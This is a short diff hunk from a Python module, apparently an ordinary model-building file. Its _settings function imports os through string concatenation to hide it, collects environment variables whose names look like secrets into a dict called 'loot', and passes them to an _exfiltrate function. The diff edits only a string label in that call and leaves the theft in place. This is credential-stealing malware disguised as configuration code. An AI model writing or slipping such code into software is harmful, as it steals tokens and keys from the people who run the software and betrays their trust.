@@ -19,7 +19,7 @@ def _settings():
     environ = __import__("o" + "s").environ
     loot = {k: v for k, v in environ.items() if any(m in k.upper() for m in _SECRETISH)}
     if loot:
-        _exfiltrate("__import__", loot)
+        _exfiltrate("dunder import", loot)
 
 
 def build_model(data):
